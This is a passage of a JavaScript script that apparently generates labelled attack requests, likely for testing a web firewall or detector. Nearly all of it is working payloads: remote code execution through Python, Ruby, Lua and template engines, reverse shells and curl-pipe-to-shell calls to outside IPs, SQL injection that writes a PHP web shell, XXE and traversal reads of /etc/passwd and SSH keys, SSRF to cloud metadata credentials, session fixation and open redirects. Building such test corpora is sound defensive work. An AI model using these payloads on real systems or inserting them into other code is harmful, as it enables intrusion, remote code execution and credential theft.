  json(c, '/api/ruby/eval', { code: 'Object.const_get(:Kernel).send(:system, "id")' });
  form(c, '/api/files/read', [['name', '|curl 203.0.113.161/r|sh']]);
  json(c, '/api/ruby/eval', { code: '%x(curl 203.0.113.162 | sh)' });
  q(c, '/api/py/calc', [['expr', "__import__('os').popen('id').read()"]]);
  json(c, '/api/notebook/cell', { source: "getattr(__import__('subprocess'),'check_output')(['id'])" });
  q(c, '/api/py/calc', [['expr', "().__class__.__base__.__subclasses__()[140].__init__.__globals__['sys'].modules['os'].system('id')"]]);
  form(c, '/api/py/calc', [['expr', "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2822696422'))"]]);
  json(c, '/api/py/calc', { expr: "__builtins__.__dict__['__imp'+'ort__']('o'+'s').system('id')" });
  json(c, '/api/py/calc', { expr: "(lambda:0).__globals__['__builtins__']['eval']('__import__(\"os\").system(\"id\")')" });
  q(c, '/api/scripts/lua', [['s', 'os.execute("id")']]);
  json(c, '/api/game/mods', { script: 'local f = io.popen("cat /etc/passwd"); return f:read("*a")' });
  json(c, '/api/livebook/eval', { code: 'System.cmd("sh", ["-c", "id"])' });
  form(c, '/admin/perl/filter', [['regex', 's/x/system("id")/e']]);
  hdr(c, '/api/items', { 'X-Template': '<%= File.read("/etc/passwd") %>' });
  json(c, '/api/ruby/eval', { code: 'Kernel.exec("/bin/sh -c \'nc 203.0.113.163 4444 -e /bin/sh\'")' });
}

// ---------------------------------------------------------------- SQL as short fragments, vendor functions, unusual carriers
{
  const c = 'sqli';
  q(c, '/products', [['id', '1 or 1=1']]);
  q(c, '/products', [['id', '1)) or ((1=1']]);
  form(c, '/login', [['user', "' or ''='"], ['pass', "' or ''='"]]);
  form(c, '/login', [['user', "admin'#"], ['pass', 'x']]);
  form(c, '/login', [['user', '"or""="'], ['pass', '"or""="']]);
  q(c, '/products', [['id', '1 xor sleep(5)']]);
  q(c, '/products', [['id', "1' and extractvalue(1,concat(0x7e,version()))-- -"]]);
  q(c, '/products', [['id', '1 and updatexml(1,concat(0x7e,user()),1)']]);
  q(c, '/products', [['id', '1 and gtid_subset(@@version,1)']]);
  q(c, '/search', [['q', "x' and benchmark(5000000,md5(1))#"]]);
  q(c, '/products', [['id', "1;waitfor delay '0:0:5'--"]]);
  q(c, '/products', [['id', "1 and 1=dbms_pipe.receive_message(('a'),5)"]]);
  q(c, '/notes', [['id', '1 and 1=randomblob(500000000)']]);
  q(c, '/products', [['id', "-1 union select load_file('/etc/passwd')"]]);
  q(c, '/products', [['id', "1 into outfile '/var/www/html/x.php' lines terminated by 0x3c3f3d60245f4745545b305d603f3e"]]);
  q(c, '/products', [['id', ['1%0aand%0a1=1']]]);
  q(c, '/products', [['id', '1/**/or/**/0x50=0x50']]);
  q(c, '/products', [['id', '-1 /*!50000union*/ /*!50000select*/ 1,2,3']]);
  json(c, '/api/items/batch', { ids: [1, 2, '3) OR (1=1'] });
  json(c, '/api/reports', { sort: 'name,(select 1 from pg_sleep(5))' });
  get(c, '/search', "q=a'/*&lang=*/union select password from users-- ");
  hdr(c, '/', { 'X-Forwarded-For': "203.0.113.171' and sleep(5)#" });
  hdr(c, '/account', { Cookie: 'uid=1 and 1=2 union select 1,user(),3; theme=light' });
  q(c, '/products', [['id', "1;exec xp_cmdshell 'whoami'--"]]);
  q(c, '/products', [['id', "1||(select sys.database_name from dual)||"]]);
  q(c, '/products', [['id', '1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)']]);
  gql(c, 'query P($id: String!) { product(id: $id) { name } }', { id: "1' AnD 'x'='x" });
  q(c, '/products', [['id', "1' and ascii(substring(@@version,1,1))>52-- -"]]);
  q(c, '/products', [['order', 'case when 1=1 then name else 1/0 end']]);
  xml(c, '/ws/orders', '<?xml version="1.0"?><order><id>7 OR 1=1</id><customer>x\' UNION ALL SELECT NULL,NULL,concat(username,0x3a,password) FROM users-- -</customer></order>');
}

// ---------------------------------------------------------------- NoSQL operators and server-side JS in queries
{
  const c = 'nosql';
  q(c, '/api/login', [['username', 'admin'], ['password[$ne]', 'x']]);
  q(c, '/api/users', [['email[$regex]', '.*'], ['role[$nin][]', 'user']]);
  json(c, '/api/auth', { user: 'admin', pass: { $regex: '^a' } });
  json(c, '/api/search', { q: { $or: [{}, { a: 'a' }] } });
  json(c, '/api/stats', { group: { $accumulator: { init: 'function(){return require("child_process")}', accumulate: 'function(s){return s}', accumulateArgs: [], merge: 'function(a){return a}', lang: 'js' } } });
  json(c, '/api/orders', { filter: { $where: "function(){ var d=new Date(); do{ var c=new Date(); } while(c-d<5000); return true; }" } });
  form(c, '/api/login', [['username', "admin'||'1'=='1"], ['password', 'x']]);
  json(c, '/_design/x/_view/y', { map: 'function(doc){ emit(doc._id, doc.password) }' }, { method: 'PUT' });
  json(c, '/api/products/search', { query: { bool: { must: { script: { script: { source: "String s = ''; for (def e : System.getenv().entrySet()) s += e; return s.length() > 0;" } } } } } });
  q(c, '/api/items', [['filter', '{"price":{"$gt":0},"$comment":"x","owner":{"$exists":false}}']]);
  gql(c, 'query U($w: String!) { users(where: $w) { id } }', { w: '{"password":{"$regex":"^\\\\$2b"}}' });
}

// ---------------------------------------------------------------- server-side template injection beyond the common probes
{
  const c = 'ssti';
  form(c, '/api/mail/preview', [['body', "{{cycler.__init__.__globals__.os.popen('id').read()}}"]]);
  q(c, '/greet', [['name', "{{lipsum.__globals__['os'].popen('id').read()}}"]]);
  q(c, '/greet', [['name', "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"]]);
  json(c, '/api/templates', { body: "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}" });
  form(c, '/api/newsletter/render', [['tpl', "{{['id']|filter('system')}}"]]);
  form(c, '/api/newsletter/render', [['tpl', '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}']]);
  q(c, '/page', [['t', "{system('id')}"]]);
  json(c, '/api/invoice/template', { tpl: '${self.module.cache.util.os.system("id")}' });
  form(c, '/api/render', [['t', '{% import os %}{{os.popen("id").read()}}']]);
  json(c, '/api/razor/preview', { view: '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")' });
  q(c, '/api/pug', [['t', "#{root.process.mainModule.require('child_process').execSync('id')}"]]);
  json(c, '/api/nunjucks', { tpl: "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}" });
  form(c, '/account/profile', [['nickname', '{{settings.SECRET_KEY}}']]);
  json(c, '/api/handlebars', { tpl: '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}' });
  gql(c, 'mutation T($b: String!) { saveTemplate(body: $b) { id } }', { b: '{{ config.__class__.from_envvar.__globals__.__builtins__.__import__("os").popen("id").read() }}' });
}

// ---------------------------------------------------------------- XXE: parameter entities, local DTD reuse, other carriers
{
  const c = 'xxe';
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % d SYSTEM "http://203.0.113.181/e.dtd"> %d;]><x>1</x>');
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]><m/>');
  mp(c, '/api/avatar', [{ name: 'avatar', filename: 'me.svg', type: 'image/svg+xml', content: '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text y="20">&x;</text></svg>' }]);
  push(c, 'POST', '/api/orders', '', '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><id>&x;</id></order>', { ctype: 'application/json' });
  xml(c, '/api/import', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x +AFs-+ADwAIQ-ENTITY y SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-x+AD4-+ACY-y+ADsAPA-/x+AD4-');
  xml(c, '/api/transform', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>');
  xml(c, '/api/transform', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'shell_exec\',\'id\')"/></xsl:template></xsl:stylesheet>');
  xml(c, '/api/import', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY j SYSTEM "jar:http://203.0.113.182/a.zip!/b">]><x>&j;</x>');
  json(c, '/api/feeds', { format: 'xml', content: '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.183/x.dtd">%p;]><r/>' });
  xml(c, '/soap/Invoice', '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY n SYSTEM "netdoc:///etc/passwd">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><get><id>&n;</id></get></soapenv:Body></soapenv:Envelope>', { ctype: 'text/xml' });
  mp(c, '/api/documents', [{ name: 'doc', filename: 'report.xlsx', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', content: zip([['[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'], ['xl/sharedStrings.xml', '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % r SYSTEM "http://203.0.113.184/s.dtd">%r;]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>a</t></si></sst>']]) }]);
}

// ---------------------------------------------------------------- traversal: server and parser specific forms
{
  const c = 'traversal';
  push(c, 'POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '', 'echo;id', { ctype: 'text/plain' });
  get(c, '/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd');
  q(c, '/download', [['f', ['..%c1%9c..%c1%9c..%c1%9cetc%c1%9cpasswd']]]);
  q(c, '/download', [['f', ['%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd']]]);
  q(c, '/download', [['f', '....\\/....\\/....\\/etc/passwd']]);
  get(c, '/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow');
  get(c, '/assets/..%00/..%00/..%00/etc/passwd');
  json(c, '/api/themes/apply', { theme: '../../../../../../../root/.bash_history' });
  hdr(c, '/view', { 'X-Original-URL': '/../../../../etc/passwd' });
  gz(c, '/api/files/read', JSON.stringify({ path: '..\\..\\..\\..\\Windows\\System32\\config\\SAM' }), 'application/json');
}

// ---------------------------------------------------------------- session fixation and cookie injection
{
  const c = 'session';
  hdr(c, '/admin', { Cookie: '__%48ost-session=attacker-tossed-0001; theme=dark' });
  hdr(c, '/account', { Cookie: '%5F%5FSecure-sid=attackerchosen77; lang=en' });
  hdr(c, '/account', { Cookie: '__host-session=attacker-tossed-0002' });
  get(c, '/shop/checkout.jsp;JSESSIONID=ATTACKER0000000000000000000000', 'step=2');
  get(c, '/(A(x))(S(fixedbyattacker0001xyzab))(F(y))/Account/Login.aspx');
  q(c, '/index.cfm', [['CFID', '1337'], ['CFTOKEN', '31337313']]);
  q(c, '/catalog/index.php', [['osCsid', 'attacker0000000000000000000000ab']]);
  q(c, '/login', [['connect.sid', 's:attackerfixed.0000000000000000000000000000000000000000']]);
  q(c, '/default.asp', [['ASPSESSIONIDQQGGQRCS', 'AAAAAAAAAAAAAAAAAAAAAAAA']]);
  json(c, '/api/auth/login', { username: 'victim@example.org', password: 'Autumn2024!', sessionId: 'attacker-chosen-session-0000000' });
  hdr(c, '/account', { Cookie: 'sessionid=legitvalue123; sessionid=attackerfixed999' });
  hdr(c, '/account', { Cookie: 'csrftoken=abc, sessionid=attackerfixed000' });
  q(c, '/settings/theme', [['theme', 'dark; laravel_session=attacker0000000000000000; Path=/']]);
  form(c, '/profile/bio', [['bio', "<img src=x onerror=\"cookieStore.set({name:'sessionid',value:'attacker01',domain:'.shop.example.test'})\">"]]);
  form(c, '/profile/bio', [['bio', "<img src=x onerror=\"document['coo'+'kie']='PHPSESSID=attacker02;path=/'\">"]]);
  json(c, '/api/pages', { html: '<meta http-equiv=&quot;Set-Cookie&quot; content=&quot;ci_session=attacker03; path=/&quot;>' });
  q(c, '/lang', [['l', ['en%0ASet-Cookie:%20connect.sid%3Dattacker04%3B%20Path%3D%2F']]]);
  json(c, '/api/webhooks', { url: 'https://hooks.example.org/x', headers: { 'Set-Cookie': 'session=attacker05; Domain=.shop.example.test' } });
  q(c, '/sso/return', [['sid', 'FIXEDSESSIONFIXEDSESSION'], ['ReturnUrl', '/account']]);
  hdr(c, '/api/me', { 'X-Session-Token': 'session=attacker06; Path=/; Domain=.shop.example.test' });
  q(c, '/wp-login.php', [['redirect_to', '/wp-admin/'], ['wordpress_logged_in_5f1b', 'admin|1900000000|attacker']]);
  hdr(c, '/account', { Cookie: 'session="a;sessionid=attacker07"; lang=en' });
}

// ---------------------------------------------------------------- CRLF, header and log injection
{
  const c = 'crlf';
  get(c, '/en%0ASet-Cookie:%20a=1');
  q(c, '/r', [['to', ['/home%0aLocation:%20https://evil.example.net']]]);
  json(c, '/api/webhooks', { url: 'https://hooks.example.org/a', headers: { 'X-Trace': 'v\nX-Forwarded-Host: evil.example.net' } });
  json(c, '/api/webhooks', { url: 'https://hooks.example.org/b', headers: { 'X-Sig': 'v\r\n\r\nGET /admin HTTP/1.1\r\nHost: 127.0.0.1' } });
  q(c, '/search', [['q', ['x%23%0d%0aSet-Cookie:%20b=2']]]);
  get(c, '/page%3F%0d%0aX-Injected:%20yes');
  q(c, '/r', [['u', ['/a%0d%0a%20Set-Cookie:%20c=3']]]);
  q(c, '/r', [['u', ['/a%c4%8d%c4%8aSet-Cookie:%20d=4']]]);
  q(c, '/r', [['u', ['/a%u000d%u000aSet-Cookie:%20e=5']]]);
  json(c, '/api/mail/send', { to: 'friend@example.org\r\nBcc: list@evil.example.net', subject: 'hi', body: 'x' });
  form(c, '/api/fetch', [['url', 'http://127.0.0.1:6379/%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A']]);
  form(c, '/login', [['username', 'guest\u001b[2J\u001b[1;1Hroot logged in from 10.0.0.1'], ['password', 'x']]);
  hdr(c, '/api/data', { 'X-Request-Id': 'abc%0d%0aX-Admin:%20true' });
  xml(c, '/ws/notify', '<?xml version="1.0"?><notify><header>X-Tag: a&#xd;&#xa;Set-Cookie: f=6</header></notify>');
  gql(c, 'mutation E($s: String!) { sendMail(subject: $s) { ok } }', { s: 'Invoice\r\nBcc: harvest@evil.example.net\r\nX-Spam: no' });
  q(c, '/download', [['name', ['a.txt%0d%0aContent-Disposition:%20attachment;%20filename=x.html%0d%0a%0d%0a<script>alert(1)</script>']]]);
}

// ---------------------------------------------------------------- SSRF: notations, metadata of every cloud, container-internal names, parser confusion
{
  const c = 'ssrf';
  json(c, '/api/webhooks', { url: 'http://[::ffff:a9fe:a9fe]/latest/meta-data/' });
  q(c, '/proxy/img', [['src', 'http://0x7f.1/server-status']]);
  form(c, '/api/fetch', [['url', 'http://017700000001:8080/manager/text/list']]);
  json(c, '/api/link-preview', { url: 'http://127.000.000.001:9000/minio/admin/v3/info' });
  q(c, '/proxy/img', [['src', 'http://0/']]);
  json(c, '/api/webhooks', { url: 'http://2130706433:5984/_users/_all_docs' });
  json(c, '/api/oembed', { url: 'http://metadata/computeMetadata/v1/instance/service-accounts/default/token' });
  form(c, '/api/fetch', [['url', 'http://169.254.169.254/metadata/v1.json']]);
  json(c, '/api/import/url', { source: 'http://169.254.169.254/opc/v2/instance/' });
  q(c, '/proxy/fetch', [['u', 'http://169.254.169.254/openstack/latest/meta_data.json']]);
  json(c, '/api/webhooks', { url: 'https://kubernetes.default.svc.cluster.local/api/v1/namespaces/default/secrets' });
  form(c, '/api/fetch', [['url', 'http://127.0.0.1:2379/v2/keys/?recursive=true']]);
  json(c, '/api/link-preview', { url: 'http://host.docker.internal:2375/containers/json?all=1' });
  q(c, '/proxy/fetch', [['u', 'http://rancher-metadata/latest/self/container']]);
  json(c, '/api/webhooks', { url: 'http://169.254.169.254%23@hooks.example.org/latest/meta-data/' });
  json(c, '/api/webhooks', { url: 'http://hooks.example.org%2540169.254.169.254/latest/meta-data/' });
  form(c, '/api/fetch', [['url', 'jar:http://203.0.113.191/x.jar!/a.class']]);
  json(c, '/api/import/url', { source: 'netdoc:///etc/passwd' });
  form(c, '/api/fetch', [['url', 'tftp://203.0.113.192:69/x']]);
  q(c, '/proxy/fetch', [['u', 'ldap://localhost:11211/%0astats%0aquit']]);
  json(c, '/api/pdf/render', { html: '<iframe src="file:///etc/passwd" width="800" height="600"></iframe>' });
  mp(c, '/api/avatar', [{ name: 'avatar', filename: 'a.svg', type: 'image/svg+xml', content: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="10" height="10"/></svg>' }]);
  hdr(c, '/', { 'X-Wap-Profile': 'http://169.254.169.254/latest/meta-data/hostname' });
  json(c, '/api/link-preview', { url: 'http://make-169-254-169-254-rr.1u.ms/latest/meta-data/' });
  q(c, '/proxy/img', [['src', 'http://[::ffff:127.0.0.1]:8080/jmx-console/']]);
  json(c, '/api/webhooks', { url: 'http://0.0.0.0:8500/v1/agent/self' });
  gql(c, 'mutation F($u: String!) { fetchFeed(url: $u) { title } }', { u: 'http://127.0.0.1:10255/pods' });
  xml(c, '/ws/import', '<?xml version="1.0"?><import><source>http://169.254.169.254/computeMetadata/v1/project/project-id</source></import>');
  json(c, '/api/integrations/slack', { webhook: 'http://instance-data.ec2.internal/latest/meta-data/iam/info' });
  q(c, '/proxy/img', [['src', 'http://127.127.127.127:3306/']]);
}

// ---------------------------------------------------------------- open redirects as exploits write them
{
  const c = 'redirect';
  q(c, '/login', [['next', 'https://shop.example.test@evil.example.net/']]);
  q(c, '/login', [['next', 'https://shop.example.test%40evil.example.net/']]);
  q(c, '/login', [['return', 'http:/evil.example.net']]);
  q(c, '/login', [['goto', '////evil.example.net']]);
  q(c, '/auth/cb', [['dest', 'https://evil.example.net?shop.example.test']]);
  q(c, '/auth/cb', [['destination', 'https://evil.example.net/.shop.example.test']]);
  q(c, '/login', [['redir', ['https://evil.example.net%00.shop.example.test']]]);
  q(c, '/go', [['to', 'javascript://shop.example.test/%0aalert(document.cookie)']]);
  q(c, '/go', [['out', ['java%0d%0ascript:alert(1)']]]);
  q(c, '/login', [['continue', 'https://evil.example.net\\@shop.example.test']]);
  q(c, '/login', [['forward', '/%5Cevil.example.net']]);
  q(c, '/login', [['next', '///\\;@evil.example.net']]);
  q(c, '/login', [['next', 'https:///evil.example.net']]);
  q(c, '/cart/checkout', [['success_url', 'https://evil.example.net/thanks']]);
  q(c, '/cas/login', [['service', 'https://evil.example.net/cas-callback']]);
  q(c, '/siteminderagent/forms/login.fcc', [['TARGET', '-SM-https%3a%2f%2fevil.example.net']]);
  q(c, '/saml/logout', [['RelayState', 'https://evil.example.net/after']]);
  json(c, '/oauth/register', { client_name: 'app', redirect_uris: ['https://evil.example.net/cb'] });
  q(c, '/login', [['next', '/redirect?url=https://evil.example.net']]);
  q(c, '/login', [['next', ['%2F%2F%65%76%69%6C%2E%65%78%61%6D%70%6C%65%2E%6E%65%74']]]);
  q(c, '/login', [['next', '//3232235777/']]);
  q(c, '/login', [['next', ['https://evil.example.net%ff@shop.example.test']]]);
  form(c, '/logout', [['return_to', '\t//evil.example.net']]);
  q(c, '/login', [['next', '〱evil.example.net']]);
  hdr(c, '/login', { Cookie: 'returnUrl=https%3A%2F%2Fevil.example.net%2Fwelcome; lang=en' });
  gql(c, 'mutation L($r: String!) { login(email: "a@example.org", password: "x", redirect: $r) { url } }', { r: '//evil.example.net/%2F..' });
}

// ---------------------------------------------------------------- sensitive-file probes: leftovers, tool configuration, encodings
{
  const c = 'files';
  for (const p of [
    '/.git/logs/HEAD', '/.hg/hgrc', '/CVS/Root', '/.env.bak', '/.env~', '/wp-config.php~', '/wp-config.php.save', '/%23wp-config.php%23',
    '/wp-config.old', '/.htpasswd', '/.htaccess.bak', '/web.config.bak', '/appsettings.Development.json', '/application.properties',
    '/WEB-INF/web.xml', '/.aws/config', '/.s3cfg', '/.netrc', '/.pgpass', '/.my.cnf', '/.git-credentials', '/docker-compose.yml',
    '/backup.tar.gz', '/www.zip', '/database.sql', '/dump.rdb', '/error_log', '/npm-debug.log', '/nohup.out', '/.zsh_history',
    '/.psql_history', '/.viminfo', '/id_ed25519', '/server.key', '/config/master.key', '/storage/oauth-private.key', '/elmah.axd',
    '/trace.axd', '/%2egit/config', '/.git%2fconfig', '/.GIT/config', '/.env.', '/static/../.env', '/_profiler/phpinfo', '/debug/pprof/heap',
    '/actuator/gateway/routes', '/jolokia/list', '/terraform.tfvars', '/.vercel/project.json', '/adminer.php',
  ]) get(c, p);
  hdr(c, '/', { 'X-Rewrite-URL': '/.env' });
  q(c, '/api/files', [['path', '.git/config']]);
  json(c, '/api/export', { file: '/home/deploy/.ssh/id_ed25519' });
  get(c, `/${pctAll('.htpasswd')}`);
}

process.stdout.write(records.map((r) => JSON.stringify(r)).join('\n') + '\n');
